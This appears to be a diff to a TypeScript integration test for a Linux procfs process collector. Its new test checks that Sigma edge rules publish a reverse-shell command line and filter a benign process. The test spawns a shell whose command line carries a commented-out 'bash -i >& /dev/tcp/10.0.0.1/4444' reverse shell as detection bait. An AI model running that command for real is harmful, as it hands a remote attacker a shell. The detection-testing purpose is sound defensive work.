@@ -6,7 +6,9 @@ import mqtt from 'mqtt';
 import pino from 'pino';
 import { CollectorOutput } from '../../src/collect/collector-output';
 import { ProcfsPoller } from '../../src/collect/procfs-poller';
+import { projectRoot } from '../../src/project-root';
 import { sharedMqttUrl, uniqueTenant } from '../helpers/shared-servers';
+import { startVigil } from '../helpers/vigil-process';
 import { subscribeEvents } from './published-events';
 
 const logger = pino({ level: 'silent' });
@@ -20,8 +22,8 @@ test('a process started after the baseline is published as a linux process_creat
   const output = new CollectorOutput(client, { tenant, source: 'process', collector: 'test', maxBatchDelayMs: 20 }, logger);
   const poller = new ProcfsPoller({ hostname: hostname(), emit: (e) => output.emit(e), logger });
   const controller = new AbortController();
+  await poller.baseline(); // only processes started after it are creations
   const running = poller.run(50, controller.signal);
-  await new Promise((r) => setTimeout(r, 200)); // let the baseline pass: only later processes are creations
   const spawnedAt = Date.now();
   const child = spawn(process.execPath, ['-e', 'setTimeout(() => {}, 60000)', marker], { cwd, stdio: 'ignore' });
   try {
@@ -77,4 +79,32 @@ test('processes that vanish mid-read are skipped and counted; kernel threads (no
     expect.objectContaining({ ProcessId: 100, ParentProcessId: 1, Image: '/usr/bin/python3', CommandLine: '/usr/bin/python3 -c print(1)', User: '0', timestamp: new Date((1764144000 + 123.45) * 1000).toISOString() }),
   ]);
   expect(poller.counts).toMatchObject({ emitted: 1, vanished: 1, kernelThreads: 1 });
+});
+
+test('`vigil collect procfs --edge-rules`: a reverse-shell command line is published, a benign process is only counted', async () => {
+  const tenant = uniqueTenant('procedge');
+  const sub = await subscribeEvents(tenant);
+  const vigil = startVigil(['collect', 'procfs', '--interval', '100', '--tenant', tenant, '--edge-rules', path.join(projectRoot, 'rules', 'sigma', 'linux')], {
+    MQTT_URL: sharedMqttUrl(),
+    VIGIL_TENANTS: tenant,
+  });
+  const children: ReturnType<typeof spawn>[] = [];
+  try {
+    const deadline = Date.now() + 30_000;
+    while (!vigil.output().includes('polling /proc')) {
+      if (Date.now() > deadline || vigil.child.exitCode !== null) throw new Error(`procfs collector did not start: ${vigil.output()}`);
+      await new Promise((r) => setTimeout(r, 50));
+    }
+    children.push(spawn('sleep', ['37'], { stdio: 'ignore' }));
+    // never runs the shell: the text after # is a comment, present only in the command line
+    children.push(spawn('sh', ['-c', 'sleep 38; true # bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'], { stdio: 'ignore' }));
+    await sub.until((events) => events.some((e) => String(e.data['CommandLine']).includes('/dev/tcp/10.0.0.1/4444')));
+  } finally {
+    for (const c of children) c.kill();
+    await vigil.stop();
+    await sub.close();
+  }
+  expect(sub.events.map((e) => e.data['CommandLine'])).not.toContain('sleep 37');
+  const filtered = Number(/filtered by edge rules (\d+)/.exec(vigil.output())?.[1]);
+  expect(filtered).toBeGreaterThan(0);
 });
